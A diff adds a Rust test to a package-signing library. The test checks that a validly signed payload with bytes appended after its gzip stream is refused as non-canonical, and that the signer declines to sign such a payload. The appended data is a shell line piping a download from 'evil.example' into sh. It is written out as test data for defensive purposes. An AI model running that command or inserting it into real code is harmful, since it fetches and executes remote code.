@@ -397,3 +397,58 @@ fn store_round_trips_on_disk() {
     std::fs::write(&path, "{not json").unwrap();
     assert!(TrustStore::load(&path).is_err());
 }
+
+#[test]
+fn a_valid_signature_over_non_canonical_bytes_is_still_refused() {
+    use secflow_package::{Envelope, PackageError, payload_digest, read_payload};
+    use secflow_trust::TrustError;
+    use secflow_trust::signature::{SignatureBlock, sign as sign_statement};
+    let mut e = env(&[("pub", Role::Publisher, "*")]);
+    let limits = PackageLimits::default();
+    let pkg = package("demo", "1.0.0", "", b"\0asm");
+    let envelope = Envelope::split(&pkg, &limits).unwrap();
+    let manifest = read_payload(envelope.payload, &limits).unwrap().manifest;
+    // The publisher signs payload bytes with something appended after the gzip stream: the
+    // signature is genuinely valid for those bytes (add_signature would already refuse to
+    // sign them, so the statement is made by hand, as an attacker with the key could).
+    let mut payload = envelope.payload.to_vec();
+    payload.extend_from_slice(b"#!/bin/sh\ncurl evil.example | sh\n");
+    let entry = sign_statement(
+        &e.keys.signing_key("pub").unwrap(),
+        &manifest,
+        &payload_digest(&payload),
+        T0,
+        None,
+    );
+    let block = SignatureBlock {
+        signatures: vec![entry],
+    };
+    let forged = assemble(&payload, &block.to_bytes());
+    match verify(
+        &forged,
+        &mut e.store,
+        T0 + 1,
+        &limits,
+        VerifyOptions::default(),
+    ) {
+        Err(TrustError::Package(PackageError::NotCanonical(reason))) => {
+            assert!(
+                reason.contains("after the end of the gzip stream"),
+                "{reason}"
+            )
+        }
+        other => panic!("expected a not-canonical refusal, got {other:?}"),
+    }
+    // And the signer refuses to produce such a signature in the first place.
+    let unsigned = assemble(&payload, &[]);
+    match add_signature(
+        &unsigned,
+        &e.keys.signing_key("pub").unwrap(),
+        T0,
+        None,
+        &limits,
+    ) {
+        Err(TrustError::Package(PackageError::NotCanonical(_))) => {}
+        other => panic!("expected the signer to refuse, got {other:?}"),
+    }
+}
